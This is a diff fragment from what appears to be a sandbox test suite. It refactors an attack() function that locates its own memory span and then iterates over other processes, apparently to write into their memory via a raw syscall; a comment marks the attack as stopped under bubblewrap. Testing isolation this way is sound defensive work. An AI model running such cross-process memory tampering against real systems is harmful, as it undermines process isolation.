@@ -7,12 +7,11 @@ plain bwrap: stopped
 import ctypes
 import os
 
-from tools import others, syscall
+from tools import others, syscall, writable_spans
 
 
 def attack():
-    with open("/proc/self/maps") as maps:
-        low, high = (int(each, 16) for each in next(maps).split()[0].split("-"))
+    low, high = writable_spans()[0]
     span = (ctypes.c_size_t * 2)(low, high - low)
     for pid in others():
         try:
